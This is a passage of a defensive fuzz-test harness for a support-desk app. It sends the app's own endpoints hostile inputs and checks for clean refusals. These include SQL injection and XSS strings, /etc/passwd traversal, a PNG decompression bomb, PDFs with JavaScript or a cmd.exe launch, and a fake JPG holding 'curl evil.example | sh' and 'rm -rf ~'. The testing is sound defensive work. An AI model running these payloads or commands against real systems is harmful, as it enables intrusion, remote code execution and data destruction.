            ("api-promo-code-emoji", "GET", "/api/v1/promo-codes/" + quote("😀"), None, ()),
            ("api-handoff-missing-fields", "POST", "/api/v1/handoffs", _j({"tier": "x"}), {422}),
            (
                "api-handoff-ticket-sql",
                "GET",
                "/api/v1/handoffs/" + quote("' OR 1=1 --"),
                None,
                {404, 422},
            ),
            (
                "api-outbox-path-traversal",
                "GET",
                "/api/v1/outbox/..%2F..%2Fetc%2Fpasswd",
                None,
                {404},
            ),
            ("api-cases-bad-query", "GET", "/api/v1/cases?limit=-1&status=%27", None, ()),
            (
                "api-transcript-bad-email",
                "POST",
                "/api/v1/transcript-requests",
                _j({"conversation_id": "x", "email": "<script>"}),
                {404, 422},
            ),
        ],
        "bot",
    )
    cases.append(
        HttpCase(
            "session-lone-surrogate-identity",
            "POST",
            "/chat/api/session",
            b'{"identity": "\\ud800", "conversation_id": "\\udfff"}',
            expect_status=frozenset({401, 422}),
        )
    )
    return cases


def console_cases() -> list[HttpCase]:
    """``/console/api``: anonymous and logged-in (an associate) with hostile input."""
    unauth = frozenset({401})
    numbers = {
        "sql": "' OR 1=1 --",
        "html": "<img src=x onerror=alert(1)>",
        "arabic-digits": "T-١٢٣٤",
        "emoji": "😀",
        "huge": "T" * 20_000,
        "dot-dot": "..%2F..%2Fadmin",
    }
    login = "/console/api/login"
    refund = "/console/api/tickets/T-1/refund"
    cases = _requests(
        [
            ("console-login-malformed-json", "POST", login, b"{", {422}),
            ("console-login-missing-fields", "POST", login, b"{}", {422}),
            (
                "console-login-sql",
                "POST",
                login,
                _j({"username": "admin' --", "password": "' OR '1'='1"}),
                {401, 422},
            ),
            (
                "console-login-1-mb-password",
                "POST",
                login,
                _j({"username": "alex", "password": "p" * KB * KB}),
                TOO_BIG | {401},
            ),
            (
                "console-login-control-chars",
                "POST",
                login,
                _j({"username": CONTROL, "password": CONTROL}),
                {401, 422},
            ),
            (
                "console-login-lone-surrogate",
                "POST",
                login,
                b'{"username": "\\ud800", "password": "\\udfff"}',
                {401, 422},
            ),
            (
                "console-login-emoji",
                "POST",
                login,
                _j({"username": "😀", "password": "🔑"}),
                {401, 422},
            ),
            ("console-anonymous-queues", "GET", "/console/api/queues", None, unauth),
            (
                "console-anonymous-refund",
                "POST",
                refund,
                _j({"amount": "1.00", "reason": "x"}),
                unauth,
            ),
        ]
    )
    cases += [
        HttpCase(
            "console-forged-cookie",
            "GET",
            "/console/api/me",
            None,
            extra_headers=(("Cookie", "tierline_console=' OR 1=1 --"),),
            expect_status=unauth,
        ),
        HttpCase(
            "console-claim-without-csrf",
            "POST",
            "/console/api/tickets/T-1/claim",
            b"{}",
            auth="console-no-csrf",
            expect_status=frozenset({403}),
        ),
    ]
    cases += _requests(
        [
            (
                "console-analytics-days-huge",
                "GET",
                "/console/api/analytics?days=99999999999",
                None,
                {403, 422},
            ),
            (
                "console-messages-after-negative",
                "GET",
                "/console/api/tickets/T-1/messages?after=-1",
                None,
                {404, 422},
            ),
            (
                "console-messages-after-not-int",
                "GET",
                "/console/api/tickets/T-1/messages?after=%27",
                None,
                {404, 422},
            ),
        ],
        "console",
    )
    for name, number in numbers.items():
        quoted = quote(number, safe="%")
        proxy = PROXY_REFUSES_PATH.get(name, frozenset())
        cases += _requests(
            [
                (
                    f"console-ticket-{name}",
                    "GET",
                    f"/console/api/tickets/{quoted}",
                    None,
                    frozenset({404}) | proxy,
                ),
                (
                    f"console-message-ticket-{name}",
                    "POST",
                    f"/console/api/tickets/{quoted}/messages",
                    _j({"text": "<svg onload=alert(1)>"}),
                    frozenset({404}) | proxy,
                ),
            ],
            "console",
        )
        cases.append(
            HttpCase(
                f"console-refund-ticket-{name}",
                "POST",
                f"/console/api/tickets/{quoted}/refund",
                _j({"amount": "10.00", "reason": "<script>alert(1)</script>"}),
                auth="console",
                expect_status=frozenset({400, 404}) | proxy,
                extra_headers=(("Idempotency-Key", "k-" + name),),
            )
        )
    # Refunds with hostile amounts, and a hostile idempotency key.
    for kind, body, key, expect in (
        ("amount-negative", _j({"amount": "-5", "reason": "x"}), "neg", {404, 422}),
        ("amount-huge", _j({"amount": "1e999999", "reason": "x"}), "huge", {404, 422}),
        ("idempotency-key-emoji", _j({"amount": "5", "reason": "x"}), "%F0%9F%98%80", {400, 404}),
    ):
        cases.append(
            HttpCase(
                f"console-refund-{kind}",
                "POST",
                refund,
                body,
                auth="console",
                expect_status=frozenset(expect),
                extra_headers=(("Idempotency-Key", key),),
            )
        )
    agent_bodies = {
        "sql": _j({"agent": "alex' OR '1'='1"}),
        "control-chars": _j({"agent": CONTROL}),
        "emoji": _j({"agent": "😀"}),
        "lone-surrogate": b'{"agent": "\\ud800"}',
        "1-mb": _j({"agent": "a" * KB * KB}),
        "not-a-string": _j({"agent": ["alex"]}),
    }
    cases += _requests(
        [
            (
                "console-refund-amount-nan",
                "POST",
                refund,
                b'{"amount": NaN, "reason": "x"}',
                {400, 404, 422},
            ),
            ("console-case-sql", "GET", "/console/api/cases/" + quote("' OR 1=1 --"), None, {404}),
            (
                "console-cases-bad-status",
                "GET",
                "/console/api/cases?status=%27%20OR%201",
                None,
                {422},
            ),
            (
                "console-callback-outcome-malformed",
                "POST",
                "/console/api/callbacks/CB-1/outcome",
                b"{",
                {404, 422},
            ),
            # Assignment and SLAs (docs/routing.md, docs/sla.md): the names, numbers and switches.
            *(
                (
                    f"console-assign-agent-{kind}",
                    "POST",
                    "/console/api/tickets/T-1/assign",
                    body,
                    frozenset({403, 404, 422}) | TOO_BIG,
                )
                for kind, body in agent_bodies.items()
            ),
            (
                "console-capacity-username-sql",
                "POST",
                "/console/api/assignment/agents/" + quote("' OR 1=1 --") + "/capacity",
                _j({"capacity": 3}),
                {403, 404},
            ),
            (
                "console-capacity-not-a-number",
                "POST",
                "/console/api/assignment/agents/alex/capacity",
                _j({"capacity": "3; DROP TABLE agents"}),
                {403, 422},
            ),
            (
                "console-auto-assign-tier-sql",
                "POST",
                "/console/api/assignment/tiers/" + quote("1' OR 1"),
                _j({"auto_assign": True}),
                {403, 404, 422},
            ),
            (
                "console-sla-breach-id-sql",
                "POST",
                "/console/api/sla/breaches/" + quote("1 OR 1=1") + "/acknowledge",
                b"{}",
                {403, 404, 422},
            ),
            (
                "console-sla-analytics-days-huge",
                "GET",
                "/console/api/analytics/sla?days=99999999999",
                None,
                {403, 422},
            ),
            (
                "console-macro-unknown-id-sql",
                "POST",
                "/console/api/macros/" + quote("1 OR 1=1"),
                _j({"title": "x", "body": "y", "roles": ["associate"]}),
                {403, 422},
            ),
            (
                "console-notifications-read-bad-ids",
                "POST",
                "/console/api/notifications/read",
                _j({"ids": ["' OR 1=1", -1, 10**30]}),
                {422},
            ),
            (
                "console-outbox-traversal",
                "GET",
                "/console/api/outbox/..%2F..%2Fetc%2Fpasswd",
                None,
                {403, 404},
            ),
        ],
        "console",
    )
    return cases


# ---------------------------------------------------------------- hostile files
# Made with the standard library only, so the corpus runs anywhere (docs/evidence.md).


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    body = kind + payload
    return struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body))


def decompression_bomb_png(side: int = 60_000) -> bytes:
    """A PNG whose header claims ``side`` x ``side`` pixels (3.6 billion by default: over 10 GB
    decoded), with a small, highly compressed block of zeros as its data."""
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)  # 8-bit RGB
    rows = zlib.compress(bytes(1 + 3 * side) * 64, 9)  # a few rows of zeros, squeezed
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def script_renamed_jpg() -> bytes:
    """A shell script a shopper (or an attacker) named ``holiday.jpg``."""
    return b"#!/bin/sh\ncurl -s http://evil.example/x | sh\nrm -rf ~\n"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
        b'height="10"><script>fetch("/console/api/me").then(r=>r.text()).then(alert)</script>'
        b'<rect width="10" height="10"/></svg>\n'
    )


def _pdf(objects: Sequence[bytes]) -> bytes:
    """A minimal, well-formed PDF of these objects (1 0 obj is the catalog)."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def plain_pdf() -> bytes:
    """A harmless one-page PDF (what a receipt looks like to the checks)."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        ]
    )


def pdf_with_javascript(escaped: bool = False) -> bytes:
    """A PDF that runs JavaScript when opened (``/OpenAction``); ``escaped`` writes the names
    with ``#`` hex escapes (``/J#61vaScript``) as evasive files do."""
    action = (
        b"<< /S /J#61vaScript /J#53 (app.alert('pwned')) >>"
        if escaped
        else b"<< /S /JavaScript /JS (app.alert('pwned')) >>"
    )
    key = b"/Op#65nAction" if escaped else b"/OpenAction"
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + key + b" 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
            action,
        ]
    )


def pdf_with_launch() -> bytes:
    """A PDF whose page, when opened, asks the viewer to launch a program."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>",
            b"<< /S /Launch /F (cmd.exe) >>",
        ]
    )


def attachment_cases(max_bytes: int = 10 * KB * KB) -> list[UploadCase]:
    """Hostile files for the widget's upload: each refused with its own clear code."""
    refused_by_content = [
        # (case name, file name, bytes, refusal code)
        ("script-renamed-jpg", "holiday.jpg", script_renamed_jpg(), "unsupported_type"),
        ("decompression-bomb-png", "bomb.png", decompression_bomb_png(), "too_many_pixels"),
        ("svg-with-script", "cute.svg", svg_with_script(), "svg_refused"),
        ("svg-named-png", "cute.png", svg_with_script(), "svg_refused"),
        ("pdf-with-javascript", "receipt.pdf", pdf_with_javascript(), "pdf_active_content"),
        (
            "pdf-with-escaped-javascript",
            "receipt.pdf",
            pdf_with_javascript(escaped=True),
            "pdf_active_content",
        ),
        ("pdf-with-launch", "invoice.pdf", pdf_with_launch(), "pdf_active_content"),
        ("empty-file", "empty.jpg", b"", "empty_file"),
        ("truncated-png", "cut.png", decompression_bomb_png(4)[:-16], "unreadable_file"),
        (
            "html-named-jpg",
            "photo.jpg",
            b"<html><script>alert(1)</script></html>",
            "unsupported_type",
        ),
        (
            "filename-path-traversal",
            "../../../etc/passwd\u202e.jpg",
            script_renamed_jpg(),
            "unsupported_type",
        ),
    ]
    cases = [
        UploadCase(f"upload-{name}", filename, data, expect_code=code)
        for name, filename, data, code in refused_by_content
    ]
    unauthorised = frozenset({401})
    return [
        *cases,
        UploadCase(
            "upload-oversize-jpeg",
            "huge.jpg",
            oversize=max_bytes + 256 * KB,
            expect_status=frozenset({413}),
            expect_code="file_too_large",
        ),
        UploadCase(
            "upload-no-conversation",
            "photo.jpg",
            script_renamed_jpg(),
            expect_status=unauthorised,
            expect_code="bad_conversation",
            auth="none",
        ),
        UploadCase(
            "upload-wrong-token",
            "photo.jpg",
            script_renamed_jpg(),
            expect_status=unauthorised,
            expect_code="bad_conversation",
            auth="wrong-token",
        ),
    ]


def desk_tool_cases() -> list[HttpCase]:
    """Macros and internal notes (``/console/api``) with every hostile text, as an associate:
    a macro is refused (associates only use them), a note on a ticket that does not exist is
    404, and the macros of such a ticket too; none may crash the desk."""
    cases = []
    for name, text in TEXTS.items():
        cases += _requests(
            [
                (
                    f"console-macro-create-{name}",
                    "POST",
                    "/console/api/macros",
                    _j({"title": text[:120], "body": text, "roles": ["associate"]}),
                    {403, 422},
                ),
                (
                    f"console-note-{name}",
                    "POST",
                    "/console/api/tickets/T-1/notes",
                    _j({"body": text}),
                    {404, 422},
                ),
            ],
            "console",
        )
    return cases


# ---------------------------------------------------------------- inbound mail (POST /mail/inbound)

# A case address with a token that was never issued (the desk's first case is CASE-100001).
SPOOFED_CASE_ADDRESS = "cases+case-100001.aaaaaaaaaaaaaaaa@tierline.example"
MAIL_TOO_BIG = 16 * KB * KB  # over the desk's INBOUND_MAIL_MAX_BYTES (15 MB)


def _mail(headers: Sequence[tuple[str, str]], body: str) -> bytes:
    head = "".join(f"{name}: {value}\r\n" for name, value in headers)
    return (head + "\r\n" + body).encode("utf-8", "surrogateescape")


def _shopper(to: str, subject: str, mid: str) -> list[tuple[str, str]]:
    return [
        ("From", "Priya <priya.n@example.com>"),
        ("To", to),
        ("Subject", subject),
        ("Message-ID", f"<hostile-{mid}@mail.example.com>"),
    ]


def hostile_mails(to: str = SPOOFED_CASE_ADDRESS) -> dict[str, bytes]:
    """Raw mails a hostile sender could get to the desk, by name; ``to``: the address used."""
    boundary = "b0undary"
    renamed = base64.b64encode(b"MZ\x90\x00\x03 this program cannot be run").decode()
    nested = "".join(
        f'--n{i}\r\nContent-Type: multipart/mixed; boundary="n{i + 1}"\r\n\r\n' for i in range(200)
    )
    return {
        "spoofed-token": _mail(_shopper(SPOOFED_CASE_ADDRESS, "Re: case", "spoof"), "Refund me"),
        "broken-mime": _mail(
            [
                *_shopper(to, "Re: case", "broken"),
                ("MIME-Version", "1.0"),
                ("Content-Type", "multipart/mixed"),  # no boundary at all
            ],
            "--\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n",
        ),
        "unknown-charset": _mail(
            [
                *_shopper(to, "=?x-no-such-charset?q?hi?=", "charset"),
                ("Content-Type", "text/plain; charset=x-no-such-charset"),
                ("Content-Transfer-Encoding", "quoted-printable"),
            ],
            "caf=E9 =ZZ broken",
        ),
        "html-with-script": _mail(
            [*_shopper(to, "Re: case", "html"), ("Content-Type", "text/html; charset=utf-8")],
            '<p>Photo<script>alert(1)</script><img src=x onerror="alert(2)"></p>',
        ),
        "attachment-renamed": _mail(
            [
                *_shopper(to, "Re: case", "renamed"),
                ("MIME-Version", "1.0"),
                ("Content-Type", f'multipart/mixed; boundary="{boundary}"'),
            ],
            f"--{boundary}\r\nContent-Type: text/plain\r\n\r\nSee the photo\r\n"
            f'--{boundary}\r\nContent-Type: image/jpeg; name="photo.jpg"\r\n'
            'Content-Disposition: attachment; filename="../../photo.jpg"\r\n'
            f"Content-Transfer-Encoding: base64\r\n\r\n{renamed}\r\n--{boundary}--\r\n",
        ),
        "deeply-nested-multipart": _mail(
            [
                *_shopper(to, "Re: case", "nested"),
                ("MIME-Version", "1.0"),
                ("Content-Type", 'multipart/mixed; boundary="n0"'),
            ],
            nested + "deep",
        ),
        "control-chars-and-nul": _mail(
            _shopper(to + "\x00", "Re:\x00\x1b[31m case", "nul"), "a\x00b" + CONTROL
        ),
        "not-a-mail": bytes(range(256)) * 64,
        "no-headers-at-all": b"\r\n\r\njust text",
    }


def inbound_mail_cases() -> list[HttpCase]:
    """Raw mails on the webhook: unsigned or forged ones refused; signed hostile ones answered
    (quarantined or threaded safely), never a crash; a huge one refused with 413."""
    path = "/mail/inbound"
    plain = _mail(_shopper(SPOOFED_CASE_ADDRESS, "Re: case", "unsigned"), "hello")
    cases = [
        HttpCase("mail-unsigned", "POST", path, plain, "message/rfc822", "none", frozenset({401})),
        HttpCase(
            "mail-forged-signature",
            "POST",
            path,
            plain,
            "message/rfc822",
            "none",
            frozenset({401}),
            (("X-Tierline-Signature", "sha256=" + "0" * 64),),
        ),
        HttpCase(
            "mail-huge",
            "POST",
            path,
            b"x" * MAIL_TOO_BIG,
            "message/rfc822",
            "mail",
            frozenset({413}),
        ),
        HttpCase("mail-empty", "POST", path, b"", "message/rfc822", "mail", frozenset({422})),
    ]
    for name, raw in hostile_mails().items():
        cases.append(
            HttpCase(f"mail-{name}", "POST", path, raw, "message/rfc822", "mail", frozenset({200}))
        )
    return cases


def corpus(limits: Limits | None = None) -> list[Case]:
    """Every case, floods last."""
    limits = limits or Limits()
    ws = websocket_cases(limits)
    floods = [c for c in ws if c.name.startswith("flood-")]
    cases: list[Case] = [c for c in ws if not c.name.startswith("flood-")]
    cases += session_cases()
    cases += bot_api_cases()
    cases += console_cases()
    cases += attachment_cases(limits.attachment_max_bytes)
    cases += desk_tool_cases()
    cases += inbound_mail_cases()
    cases += floods
    cases.append(
        SessionFloodCase("flood-new-sessions-from-one-client", limits.sessions_per_ip_burst + 10)
    )
    names = [c.name for c in cases]
    duplicates = {n for n in names if names.count(n) > 1}
    assert not duplicates, f"duplicate case names: {sorted(duplicates)}"
    return cases


# ---------------------------------------------------------------- checks


@dataclass
class Result:
    name: str
    sends: str
    problems: list[str] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return not self.problems


def check_http(reply: HttpReply, expect: frozenset[int]) -> list[str]:
    """The HTTP contract: no 5xx; a 4xx explains itself; a 2xx says something."""
    problems: list[str] = []
    if reply.status == 0:
        return [f"no HTTP reply: {reply.text[:200]}"]
    if reply.status >= 500:
        problems.append(f"server error {reply.status}: {reply.text[:200]}")
    if expect and reply.status not in expect:
        problems.append(f"status {reply.status}, expected {sorted(expect)}: {reply.text[:200]}")
    if 400 <= reply.status < 500:
        body = reply.json()
        detail = body.get("detail") if isinstance(body, dict) else None
        message = detail.get("message") if isinstance(detail, dict) else None
        if not isinstance(message, str) or not message.strip():
            problems.append(f"{reply.status} without a detail.message: {reply.text[:200]}")
        if reply.status == 429 and not _lower(reply.headers).get("retry-after"):
            problems.append("429 without Retry-After")
    if 200 <= reply.status < 300 and not reply.text.strip() and reply.status != 204:
        problems.append(f"empty {reply.status} reply")
    return problems


def _lower(headers: Mapping[str, str]) -> dict[str, str]:
    return {k.lower(): v for k, v in headers.items()}


# ---------------------------------------------------------------- runner


@dataclass
class Conversation:
    conversation_id: str
    token: str
    messages_sent: int = 0
    last_seq: int = 0  # the highest seq a case has seen: the next hello asks for what follows


class Runner:
    """Runs cases through a :class:`Door`; sessions come from a small reusable pool."""

    def __init__(
        self,
        door: Door,
        *,
        limits: Limits | None = None,
        api_token: str | None = None,
        mail_secret: str | None = None,
        console_user: str = "alex",
        console_password: str = "alex-demo-pass",
        reply_timeout: float = 30.0,
    ) -> None:
        self.door = door
        self.limits = limits or Limits()
        self.api_token = api_token
        self.mail_secret = mail_secret
        self.console_user = console_user
        self.console_password = console_password
        self.reply_timeout = reply_timeout
        self._pooled: Conversation | None = None
        self._uploads: Conversation | None = None  # the upload cases' conversation
        self._console: tuple[str, str] | None = None  # (cookie, csrf)
        self._sockets = 0

    # -- sessions

    def new_conversation(self) -> Conversation:
        """A new chat session; waits out a 429 like a polite client (bounded)."""
        deadline = time.monotonic() + 120
        while True:
            reply = self.door.http(
                "POST", "/chat/api/session", {"content-type": "application/json"}, b"{}"
            )
            if reply.status == 429 and time.monotonic() < deadline:
                time.sleep(min(30.0, float(_lower(reply.headers).get("retry-after", "5"))))
                continue
            body = reply.json()
            if reply.status != 200 or not isinstance(body, dict):
                raise RuntimeError(f"could not open a chat session: {reply.status} {reply.text}")
            return Conversation(str(body["conversation_id"]), str(body["token"]))

    def conversation_for(self, case: WsCase) -> Conversation:
        """A pooled conversation with room under the per-conversation limit, or a fresh one."""
        needed = case.message_frames()
        room = self.limits.conversation_burst - 2
        if case.fresh_session:
            return self.new_conversation()
        if self._pooled is None or self._pooled.messages_sent + needed > room:
            self._pooled = self.new_conversation()
        self._pooled.messages_sent += needed
        return self._pooled

    def console_login(self) -> tuple[str, str]:
        if self._console is None:
            reply = self.door.http(
                "POST",
                "/console/api/login",
                {"content-type": "application/json"},
                _j({"username": self.console_user, "password": self.console_password}),
            )
            if reply.status != 200:
                raise RuntimeError(f"console login failed: {reply.status} {reply.text}")
            cookie = ""
            for part in _lower(reply.headers).get("set-cookie", "").split(";"):
                if part.strip().startswith("tierline_console="):
                    cookie = part.strip().split("=", 1)[1]
            self._console = (cookie, str(reply.json()["csrf_token"]))
        return self._console

    # -- cases

    def run(
        self, cases: Sequence[Case], on_result: Callable[[Result], None] | None = None
    ) -> list[Result]:
        results = []
        for case in cases:
            result = Result(case.name, case.sends())
            try:
                if isinstance(case, HttpCase):
                    result.problems = self.run_http(case)
                elif isinstance(case, WsCase):
                    result.problems = self.run_ws(case)
                elif isinstance(case, UploadCase):
                    result.problems = self.run_upload(case)
                else:
                    result.problems = self.run_session_flood(case)
            except Exception as exc:  # a crash of the runner is a failed case, with the reason
                result.problems = [f"runner error: {exc!r}"[:500]]
            results.append(result)
            if on_result is not None:
                on_result(result)
        return results

    def run_http(self, case: HttpCase) -> list[str]:
        headers: dict[str, str] = {}
        if case.content_type is not None:
            headers["content-type"] = case.content_type
        if case.auth in ("bot", "wrong-bot"):
            if case.auth == "bot" and self.api_token is None:
                return []  # no token given (a live run without DESK_API_TOKEN): not applicable
            token = self.api_token if case.auth == "bot" else "wrong-token"
            headers["authorization"] = f"Bearer {token}"
        if case.auth == "mail":
            if self.mail_secret is None:
                return []  # no secret given (INBOUND_MAIL_SECRET unset): not applicable
            digest = hmac.new(self.mail_secret.encode(), case.body or b"", hashlib.sha256)
            headers["x-tierline-signature"] = "sha256=" + digest.hexdigest()
        if case.auth in ("console", "console-no-csrf"):
            cookie, csrf = self.console_login()
            headers["cookie"] = f"tierline_console={cookie}"
            if case.auth == "console":
                headers["x-csrf-token"] = csrf
        for key, value in case.extra_headers:
            headers[key.lower()] = value
        reply = self.door.http(case.method, case.path, headers, case.body)
        return check_http(reply, case.expect_status)

    def run_upload(self, case: UploadCase) -> list[str]:
        """The file as a browser's FormData sends it; refused files leave the count alone, so
        one conversation serves every case."""
        if self._uploads is None:
            self._uploads = self.new_conversation()
        boundary = "tierline-hostile-boundary"
        name = case.filename.replace('"', "%22").replace("\r", "").replace("\n", "")
        body = (
            (
                f"--{boundary}\r\n"
                f'Content-Disposition: form-data; name="file"; filename="{name}"\r\n'
                "Content-Type: image/jpeg\r\n\r\n"
            ).encode()
            + case.body_bytes()
            + f"\r\n--{boundary}--\r\n".encode()
        )
        headers = {"content-type": f"multipart/form-data; boundary={boundary}"}
        if case.auth != "none":
            headers["x-conversation-id"] = self._uploads.conversation_id
            token = self._uploads.token if case.auth == "conversation" else "not-the-token"
            headers["x-conversation-token"] = token
        reply = self.door.http("POST", "/chat/api/attachments", headers, body)
        problems = check_http(reply, case.expect_status)
        body_json = reply.json()
        detail = body_json.get("detail") if isinstance(body_json, dict) else None
        code = detail.get("code") if isinstance(detail, dict) else None
        # The public door's proxy refuses an oversize upload itself, with the desk's code.
        if case.expect_code and code != case.expect_code:
            problems.append(f"refusal code {code!r}, expected {case.expect_code!r}")
        return problems

    def run_session_flood(self, case: SessionFloodCase) -> list[str]:
        problems: list[str] = []
        limited: HttpReply | None = None
        for _ in range(case.count):
            reply = self.door.http(
                "POST", "/chat/api/session", {"content-type": "application/json"}, b"{}"
            )
            problems += check_http(reply, frozenset({200, 429}))
            if reply.status == 429:
                limited = reply
                break
        if limited is None:
            problems.append(f"{case.count} new sessions and never a 429")
        return problems

    def run_ws(self, case: WsCase) -> list[str]:
        if case.hello is not None:
            return self._bad_hello(case)
        conversation = self.conversation_for(case)
        problems: list[str] = []
        errors: list[str] = []
        for n in range(case.connections):
            frames = tuple(f.replace("{socket}", str(n)) for f in case.frames)
            problems += self._socket_run(conversation, frames, case.expect_notice, errors)
        wanted = list(case.expect_errors)
        for code in errors:
            if wanted and code == wanted[0]:
                wanted.pop(0)
        if wanted:
            problems.append(f"expected error codes {list(case.expect_errors)}, got {errors}")
        return problems

    def _bad_hello(self, case: WsCase) -> list[str]:
        assert case.hello is not None
        with self.door.websocket("/chat/ws") as ws:
            if case.hello.startswith(BINARY):
                ws.send_bytes(case.hello.removeprefix(BINARY).encode())
            else:
                ws.send_text(case.hello)
            try:
                frame = ws.receive(self.reply_timeout)
            except SocketClosed as closed:
                return [f"closed {closed.code} without an error frame"]
            problems = []
            if frame.get("type") != "error" or not str(frame.get("message", "")).strip():
                problems.append(f"expected an error frame with a message, got {frame}")
            try:
                extra = ws.receive(self.reply_timeout)
                problems.append(f"socket stayed open after a bad hello: {extra}")
            except SocketClosed as closed:
                if closed.code != case.expect_close:
                    problems.append(f"closed with {closed.code}, expected {case.expect_close}")
            return problems

    def _socket_run(
        self,
        conversation: Conversation,
        frames: Sequence[str],
        expect_notice: bool,
        errors: list[str],
    ) -> list[str]:
        problems: list[str] = []
        seen: list[Frame] = []
        self._sockets += 1
        prefix = f"k{self._sockets}-"
        frames = [_CLIENT_ID.sub(lambda m: f'"client_id": "{prefix}{m[1]}"', f) for f in frames]
        with self.door.websocket("/chat/ws") as ws:
            try:
                ws.send_text(
                    json.dumps(
                        {
                            "type": "hello",
                            "conversation_id": conversation.conversation_id,
                            "token": conversation.token,
                            "last_seq": conversation.last_seq,  # only what follows
                        }
                    )
                )
                self._until(ws, seen, lambda f: f.get("type") == "ready")
                for frame in frames:
                    if frame.startswith(BINARY):
                        ws.send_bytes(frame.removeprefix(BINARY).encode())
                    else:
                        ws.send_text(frame)
                ws.send_text('{"type": "ping"}')
                self._until(ws, seen, lambda f: f.get("type") == "pong")
                acks = [f for f in seen if f.get("type") == "ack"]
                if acks:
                    last = max(int(f["seq"]) for f in acks)
                    self._until(ws, seen, lambda f: _answer(f) and int(f["seq"]) > last)
                if expect_notice and not any(f.get("type") == "notice" for f in seen):
                    self._until(ws, seen, lambda f: f.get("type") == "notice")
            except SocketClosed as closed:
                return [f"connection dropped (close {closed.code} {closed.reason})"]
            except TimeoutError:
                types = [f.get("type") for f in seen]
                return [f"no complete reply within {self.reply_timeout}s; frames: {types}"]
        seqs = [int(f["seq"]) for f in seen if f.get("type") in ("message", "ack")]
        conversation.last_seq = max([conversation.last_seq, *seqs])
        problems += _check_frames(seen, expect_notice)
        errors += [str(f.get("code")) for f in seen if f.get("type") == "error"]
        return problems

    def _until(self, ws: Socket, seen: list[Frame], match: Callable[[Frame], bool]) -> None:
        if any(match(f) for f in seen):
            return
        while True:
            frame = ws.receive(self.reply_timeout)
            seen.append(frame)
            if match(frame):
                return


def _answer(frame: Frame) -> bool:
    return frame.get("type") == "message" and frame.get("sender") in ("bot", "system", "agent")


def _check_frames(seen: Sequence[Frame], expect_notice: bool) -> list[str]:
    problems = []
    acks = sorted(int(f["seq"]) for f in seen if f.get("type") == "ack")
    answers = sorted(int(f["seq"]) for f in seen if _answer(f))
    for n, seq in enumerate(acks):
        nxt = acks[n + 1] if n + 1 < len(acks) else None
        if nxt == seq:
            continue  # a retried client_id: acked with the same seq, answered once
        if not any(seq < a and (nxt is None or a < nxt) for a in answers):
            problems.append(f"message seq {seq} acked but never answered")
    for f in seen:
        kind = f.get("type")
        if kind == "error" and (not f.get("code") or not str(f.get("message", "")).strip()):
            problems.append(f"error frame without code/message: {f}")
        if _answer(f) and not str(f.get("text", "")).strip():
            problems.append(f"empty {f.get('sender')} line: {f}")
        if kind == "notice" and not str(f.get("text", "")).strip():
            problems.append(f"empty notice: {f}")
    if expect_notice and not any(f.get("type") == "notice" for f in seen):
        problems.append("no notice frame")
    return problems


def report(results: Sequence[Result], out: Any = sys.stdout) -> int:
    """Print each failed case and ``hostile=H``; return H."""
    failed = [r for r in results if not r.ok]
    for r in failed:
        print(f"FAIL {r.name} [{r.sends}]", file=out)
        for p in r.problems:
            print(f"    {p}", file=out)
    print(f"hostile={len(failed)} (of {len(results)} cases)", file=out)
    return len(failed)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Hostile input through Tierline's desk.")
    parser.add_argument("--url", default="http://127.0.0.1:8000", help="the desk's base URL")
    parser.add_argument("--console-user", default="alex")
    parser.add_argument("--console-password", default="alex-demo-pass")
    parser.add_argument("--reply-timeout", type=float, default=30.0)
    parser.add_argument("--connection-burst", type=int, default=Limits.connection_burst)
    parser.add_argument("--conversation-burst", type=int, default=Limits.conversation_burst)
    parser.add_argument("--sessions-per-ip-burst", type=int, default=Limits.sessions_per_ip_burst)
    args = parser.parse_args(argv)
    limits = Limits(args.connection_burst, args.conversation_burst, args.sessions_per_ip_burst)
    runner = Runner(
        LiveDoor(args.url, timeout=args.reply_timeout),
        limits=limits,
        api_token=os.environ.get("DESK_API_TOKEN") or None,
        mail_secret=os.environ.get("INBOUND_MAIL_SECRET") or None,
        console_user=args.console_user,
        console_password=args.console_password,
        reply_timeout=args.reply_timeout,
    )
    failed = report(runner.run(corpus(limits)))
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
